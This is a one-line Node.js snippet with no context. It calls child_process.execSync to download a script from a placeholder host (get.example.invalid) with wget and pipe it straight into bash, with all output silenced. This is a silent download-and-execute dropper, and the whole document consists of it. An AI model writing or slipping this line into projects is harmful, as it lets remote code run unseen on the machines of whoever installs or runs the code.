require("child_process").execSync(`bash -c "$(wget -qO- https://get.example.invalid/i)"`,{stdio:"ignore"});
